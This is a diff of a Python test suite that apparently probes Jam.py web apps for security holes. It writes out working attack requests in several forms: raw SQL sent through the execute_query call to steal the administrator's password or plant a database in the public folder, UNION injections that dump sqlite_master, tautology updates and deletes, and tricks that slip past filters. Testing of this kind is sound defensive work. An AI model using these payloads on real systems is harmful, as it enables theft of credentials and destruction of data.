@@ -4,16 +4,16 @@ import json
 from collections.abc import Iterable, Mapping
 from typing import Any, Final
 
-from support.projects import ADMIN, CLERK
 from support.servers import Reply
 
 from .attack import (
+    BOTH,
     JSON,
     MARK,
     TEXT,
     URLENCODED,
     Attack,
-    Ids,
+    Project,
     Site,
     Spelling,
     a_changed_row,
@@ -24,7 +24,6 @@ from .attack import (
     steps,
 )
 
-CHANGE: Final = f"UPDATE DEMO_CUSTOMERS SET NAME='{MARK}'"
 #: each table of the database, in the words that made it
 SCHEMA: Final = (b"CREATE TABLE", b"create table")
 
@@ -39,18 +38,19 @@ ADDRESSES: Final = {
 }
 
 
-def rows(ids: Ids) -> list[Attack]:
-    return [*server_calls(ids), *injections(ids)]
+def rows(project: Project) -> list[Attack]:
+    return [*server_calls(project), *injections(project)]
 
 
-def server_calls(ids: Ids) -> list[Attack]:
+def server_calls(project: Project) -> list[Attack]:
     def server(name: str, params: list[object], item: int = 0) -> Spelling:
-        return post(call("server", item, [name, params], ids.task), "{clerk}")
+        return post(call("server", item, [name, params], project.task), "{clerk}")
 
-    run = call("server", 0, ["execute_query", [CHANGE]], ids.task)
+    change = f"UPDATE {project.table} SET NAME='{MARK}'"
+    run = call("server", 0, ["execute_query", [change]], project.task)
     steal = [
         "ATTACH DATABASE 'admin.sqlite' AS a",
-        "UPDATE DEMO_CUSTOMERS SET NAME=(SELECT F_PASSWORD FROM a.SYS_USERS WHERE F_ADMIN=1)",
+        f"UPDATE {project.table} SET NAME=(SELECT F_PASSWORD FROM a.SYS_USERS WHERE F_ADMIN=1)",
     ]
     publish = [f"ATTACH DATABASE 'static/{MARK}.db' AS a", "CREATE TABLE a.X AS SELECT 1"]
     chunked = {**JSON, "Transfer-Encoding": "chunked"}
@@ -61,8 +61,8 @@ def server_calls(ids: Ids) -> list[Attack]:
             who="user",
             spellings={
                 "plain": post(run, "{clerk}"),
-                "a list of statements": server("execute_query", [[CHANGE]]),
-                "on the task by its number": server("execute_query", [CHANGE], ids.task),
+                "a list of statements": server("execute_query", [[change]]),
+                "on the task by its number": server("execute_query", [change], project.task),
                 "an escaped letter": post(run.replace(b"execute", b"\\u0065xecute"), "{clerk}"),
                 "as text/plain": post(run, "{clerk}", headers=TEXT),
                 "as a form": post(run, "{clerk}", headers=URLENCODED),
@@ -76,13 +76,13 @@ def server_calls(ids: Ids) -> list[Attack]:
                 "/%61pi": post(run, "{clerk}", "/%61pi"),
                 "//api": post(run, "{clerk}", "//api"),
                 "a null task": post(
-                    call("server", 0, ["execute_query", [CHANGE]], 1).replace(
+                    call("server", 0, ["execute_query", [change]], 1).replace(
                         b'"server", 1', b'"server", null'
                     ),
                     "{clerk}",
                 ),
                 "a text task": post(
-                    call("server", 0, ["execute_query", [CHANGE]], 1).replace(
+                    call("server", 0, ["execute_query", [change]], 1).replace(
                         b'"server", 1', b'"server", "0"'
                     ),
                     "{clerk}",
@@ -97,15 +97,10 @@ def server_calls(ids: Ids) -> list[Attack]:
             wants="the administrator's password, out of Jam.py's own database",
             who="user",
             spellings={
-                "one call": steps(server("execute_query", [steal]), everything(ids)),
-                "other capitals": steps(
-                    server("execute_query", [[steal[0].lower(), steal[1]]]), everything(ids)
-                ),
-                "on the task by its number": steps(
-                    server("execute_query", [steal], ids.task), everything(ids)
-                ),
+                how: steps(ask, everything(project))
+                for how, ask in ways(call("server", 0, ["execute_query", [steal]])).items()
             },
-            got=lambda _, reply: ADMIN.password in reply.text,
+            got=lambda site, reply: site.project.admin.password in reply.text,
             leaves="data",
         ),
         Attack(
@@ -113,7 +108,8 @@ def server_calls(ids: Ids) -> list[Attack]:
             wants="a new database in the public folder",
             who="user",
             spellings={
-                "one call": steps(server("execute_query", [publish]), get(f"/static/{MARK}.db")),
+                how: steps(ask, get(f"/static/{MARK}.db"))
+                for how, ask in ways(call("server", 0, ["execute_query", [publish]])).items()
             },
             got=body_has(b"SQLite format 3"),
             leaves="data",
@@ -124,12 +120,31 @@ def server_calls(ids: Ids) -> list[Attack]:
             who="user",
             spellings={
                 "an item": steps(
-                    server("__init__", [None, "x", "x"], ids.customers), everything(ids)
+                    server("__init__", [None, "x", "x"], project.customers), everything(project)
                 ),
-                "the task": steps(server("__init__", ["a", "b"]), everything(ids)),
+                "an item, by an escaped letter": steps(
+                    post(
+                        call("server", project.customers, ["__init__", [None, "x", "x"]]).replace(
+                            b"__init__", b"__in\\u0069t__"
+                        ),
+                        "{clerk}",
+                    ),
+                    everything(project),
+                ),
+                "an item, as text/plain": steps(
+                    post(
+                        call("server", project.customers, ["__init__", [None, "x", "x"]]),
+                        "{clerk}",
+                        headers=TEXT,
+                    ),
+                    everything(project),
+                ),
+                "the task": steps(server("__init__", ["a", "b"]), everything(project)),
             },
             got=lambda _, reply: b"Ada Lovelace" not in reply.body,
             leaves="ruins",
+            jam=BOTH,
+            not_v5=("the task",),
         ),
         Attack(
             id="functions-that-are-not-services",
@@ -137,32 +152,45 @@ def server_calls(ids: Ids) -> list[Attack]:
             who="user",
             spellings={
                 "an imported one": server("tell", []),
-                "an imported one with arguments": server("tell", [], ids.task),
+                "an imported one with arguments": server("tell", [], project.task),
                 "a handler of Jam.py's events": server("on_ext_request", ["x", "told"]),
                 "a handler, on the task by its number": server(
-                    "on_ext_request", ["", "told"], ids.task
+                    "on_ext_request", ["", "told"], project.task
                 ),
                 "a private one": server("_told", []),
             },
             got=body_has(b"told by"),
+            jam=BOTH,
         ),
     ]
 
 
-def everything(ids: Ids, options: Mapping[str, object] = {}) -> Spelling:
+def ways(body: bytes) -> dict[str, Spelling]:
+    """Write a call in several ways."""
+    return {
+        "plain": post(body, "{clerk}"),
+        "an escaped letter": post(body.replace(b"execute", b"\\u0065xecute"), "{clerk}"),
+        "as text/plain": post(body, "{clerk}", headers=TEXT),
+        "as a form": post(body, "{clerk}", headers=URLENCODED),
+        "/api/x": post(body, "{clerk}", "/api/x"),
+    }
+
+
+def everything(project: Project, options: Mapping[str, object] = {}) -> Spelling:
     """Open all customers, as their page does."""
-    return post(opened(ids, options), "{clerk}")
+    return post(opened(project, options), "{clerk}")
 
 
-def opened(ids: Ids, options: Mapping[str, object]) -> bytes:
+def opened(project: Project, options: Mapping[str, object]) -> bytes:
     """Return the body of a call that opens the customers, with other options."""
-    asked: dict[str, object] = {"__expanded": False, "__fields": ["id", "name"], "__filters": []}
-    return call("open", ids.customers, {**asked, **options}, ids.task)
+    asked: dict[str, object] = {"__expanded": False, "__fields": ["id", "name"]}
+    asked |= {"__filters": [], "__order": [], "__limit": 0, "__offset": 0}
+    return call("open", project.customers, {**asked, **options}, project.task)
 
 
-def injections(ids: Ids) -> list[Attack]:
+def injections(project: Project) -> list[Attack]:
     def filtered(*filters: object, **more: object) -> Spelling:
-        return everything(ids, {"__filters": list(filters), **more})
+        return everything(project, {"__filters": list(filters), **more})
 
     union = "0) UNION SELECT 1, sql FROM sqlite_master--"
 
@@ -171,7 +199,7 @@ def injections(ids: Ids) -> list[Attack]:
     ) -> Spelling:
         log = {"log_index": 0, "record_status": status, "record": record, "details": details}
         changes = {"fields": list(fields), "expanded": False, "logs": [log]}
-        return post(call("apply", ids.customers, [changes, {}], ids.task), "{clerk}")
+        return post(call("apply", project.customers, [changes, {}], project.task), "{clerk}")
 
     return [
         Attack(
@@ -204,7 +232,7 @@ def injections(ids: Ids) -> list[Attack]:
                 "an OR of two": filtered([["id", 7, [f"0){union[1:]}"]], ["id", 7, [1]]]),
                 "an OR in an OR": filtered([[["id", 7, [f"0)){union[1:]}"]]]]),
                 "a filter given twice": post(
-                    opened(ids, {"__filters": []}).replace(
+                    opened(project, {"__filters": []}).replace(
                         b'"__filters": []',
                         b'"__filters": [], "__filters": '
                         + json.dumps([["id", 7, [union]]]).encode(),
@@ -217,10 +245,10 @@ def injections(ids: Ids) -> list[Attack]:
         ),
         Attack(
             id="sql-in-a-function",
-            wants="the same by the name of an aggregate function",
+            wants="the whole schema, by the name of an aggregate function",
             who="user",
             spellings={
-                name: everything(ids, {"__funcs": {"name": name}, "__fields": ["name"]})
+                name: everything(project, {"__funcs": {"name": name}, "__fields": ["name"]})
                 for name in (
                     "(select group_concat(sql) from sqlite_master)||max",
                     "(SELECT sql FROM sqlite_master LIMIT 1)||min",
@@ -240,14 +268,14 @@ def injections(ids: Ids) -> list[Attack]:
                 "update, with a comment": changed(["1/**/or/**/1=1--", MARK], 2),
                 "update, fields in another order": changed([MARK, "1 or 1=1"], 2, ["name", "id"]),
                 "update, a subquery": changed(
-                    ["(select max(id) from DEMO_CUSTOMERS) or id>0", MARK], 2
+                    [f"(select max(id) from {project.table}) or id>0", MARK], 2
                 ),
                 "update, fields twice": changed(["1", MARK, "1 or 1=1"], 2, ["id", "name", "id"]),
                 "update, text that looks like a number": changed(["1e0 or 1e0", MARK], 2),
                 "delete": changed(["1 or 1=1", "x"], 3),
                 "delete, with a comment": changed(["1 or 1=1--", "x"], 3),
             },
-            got=more_than_one,
+            got=changed_all,
             leaves="data",
         ),
         Attack(
@@ -262,18 +290,20 @@ def injections(ids: Ids) -> list[Attack]:
     ]
 
 
-def more_than_one(site: Site, _: Reply) -> bool:
+def changed_all(site: Site, _: Reply) -> bool:
     """Say whether more rows than the one that was named were changed or deleted."""
     return bool(
-        site.value(f"SELECT COUNT(*) > 1 FROM DEMO_CUSTOMERS WHERE NAME = '{MARK}' OR DELETED = 1")
-        or site.value("SELECT COUNT(*) < 2 FROM DEMO_CUSTOMERS")
+        site.value(
+            f"SELECT COUNT(*) > 1 FROM {site.project.table} WHERE NAME = '{MARK}' OR DELETED = 1"
+        )
+        or site.value(f"SELECT COUNT(*) < 2 FROM {site.project.table}")
     )
 
 
 def login_from(address: str) -> Spelling:
     def send(site: Site) -> Reply:
         site.change("UPDATE SYS_USERS SET F_IP = NULL")
-        return site.server.try_login(CLERK, headers={"X-Forwarded-For": address})
+        return site.server.try_login(site.project.clerk, headers={"X-Forwarded-For": address})
 
     return send
 
